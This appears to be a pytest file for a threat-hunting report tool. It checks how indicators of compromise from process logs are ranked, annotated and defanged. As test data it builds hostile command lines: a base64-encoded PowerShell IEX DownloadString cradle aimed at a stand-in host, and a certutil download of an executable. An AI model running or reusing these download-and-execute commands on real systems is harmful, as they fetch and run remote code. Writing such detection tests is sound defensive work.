"""The order of indicators: what an investigator must see first."""

import base64
from collections.abc import Callable
from typing import Any

import polars as pl

from huntkit.report import encoded, indicators, sections
from huntkit.report.facts import gather
from huntkit.report.layouts import layouts
from huntkit.report.texts import distinct_texts

Make = Callable[..., Any]


def powershell(script: str) -> str:
    return "powershell -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


def agent(port: int = 80) -> str:
    return powershell(f"IEX (New-Object Net.WebClient).DownloadString('http://10.9.8.7:{port}/a')")


def of_kind(rows: pl.DataFrame, kind: str) -> list[str]:
    return rows.filter(pl.col("IoCType") == kind)["Observable"].to_list()


def test_the_same_decoded_text_counts_once_however_often_it_was_logged(
    evidence: Make, process_rows: Make
) -> None:
    lines = [{"ProcessCommandLine": agent() + " " * n, "_record": n} for n in range(30)]
    given = evidence({"DeviceProcessEvents": process_rows(*lines)})
    texts = distinct_texts(given, layouts(given), [])
    rows = indicators.indicators(texts, decoded=encoded.encoded(texts))
    assert rows.filter(pl.col("IoCType") == "url")["Mentions"].to_list() == [1]


def test_what_stands_in_code_comes_first_even_if_it_is_inside(
    evidence: Make, process_rows: Make
) -> None:
    lines = ["ping 198.51.100.3", agent(), agent(443), "ping 10.0.0.1", "ping 127.0.0.1"]
    rows = process_rows(
        *({"ProcessCommandLine": line, "_record": n} for n, line in enumerate(lines))
    )
    found = gather(evidence({"DeviceProcessEvents": rows})).indicators
    assert of_kind(found, "ipv4") == ["10.9.8.7", "198.51.100.3", "10.0.0.1", "127.0.0.1"]
    notes = dict(found.select("Observable", "Note").rows())
    assert notes["10.9.8.7"] == "in decoded text"
    assert (notes["198.51.100.3"], notes["10.0.0.1"]) == ("", "")
    assert notes["127.0.0.1"] == "loopback"


def test_indicators_of_risky_command_lines_come_first(evidence: Make, process_rows: Make) -> None:
    line = "certutil.exe -urlcache -split -f http://later.example.org/x.exe C:\\t\\x.exe"
    rows = process_rows(
        {"ProcessCommandLine": "ping early.example.org", "_record": 1},
        *({"ProcessCommandLine": line, "_record": n} for n in range(2, 9)),
    )
    found = gather(evidence({"DeviceProcessEvents": rows})).indicators
    assert of_kind(found, "dns") == ["later.example.org", "early.example.org"]
    assert set(found.filter(pl.col("Observable").str.contains("later"))["Note"]) == {
        "in a risky command line"
    }


def test_what_every_machine_has_comes_last_but_is_there(evidence: Make, process_rows: Make) -> None:
    script = "$x = 'http://schemas.microsoft.com/win'; IEX 'http://microsoft.com.bad.example.org/a'"
    rows = process_rows(
        {"ProcessCommandLine": powershell(script), "_record": 1},
        *({"ProcessCommandLine": "ping much.example.org", "_record": n} for n in range(2, 6)),
    )
    found = gather(evidence({"DeviceProcessEvents": rows})).indicators
    assert of_kind(found, "dns") == [
        "microsoft.com.bad.example.org",
        "much.example.org",
        "schemas.microsoft.com",
    ]


def test_the_page_shows_indicators_of_code_in_a_list_of_their_own(
    evidence: Make, process_rows: Make
) -> None:
    rows = process_rows({"ProcessCommandLine": agent()}, {"ProcessCommandLine": "ping 10.0.0.1"})
    facts = gather(evidence({"DeviceProcessEvents": rows}))
    section = next(each for each in sections.draw(facts) if each.id == "indicators")
    first, inside = section.blocks
    assert [row[0].text for row in first["sheet"].rows] == [
        "10[.]9[.]8[.]7",
        "hxxp://10[.]9[.]8[.]7:80/a",
    ]
    assert [row[0].text for row in inside["sheet"].rows] == ["10[.]0[.]0[.]1"]


def test_no_texts_give_an_empty_table_with_all_columns() -> None:
    texts = pl.DataFrame({"text": []}, schema={"text": pl.String})
    assert "Note" in indicators.indicators(texts, risky=pl.DataFrame()).columns


def test_what_was_fetched_from_inside_stands_among_the_urls(
    evidence: Make, process_rows: Make
) -> None:
    lines = ["see http://198.51.100.3/a"] * 2 + ["see http://10.0.5.13/a.txt"]
    rows = process_rows(
        *({"ProcessCommandLine": line, "_record": n} for n, line in enumerate(lines))
    )
    facts = gather(evidence({"DeviceProcessEvents": rows}))
    assert of_kind(facts.indicators, "url")[0] == "http://10.0.5.13/a.txt"
    section = next(each for each in sections.draw(facts) if each.id == "indicators")
    told = {each["sheet"].caption: len(each["sheet"].rows) for each in section.blocks}
    assert told == {"URLs": 2, "IPv4 addresses": 1, "Addresses inside": 1}
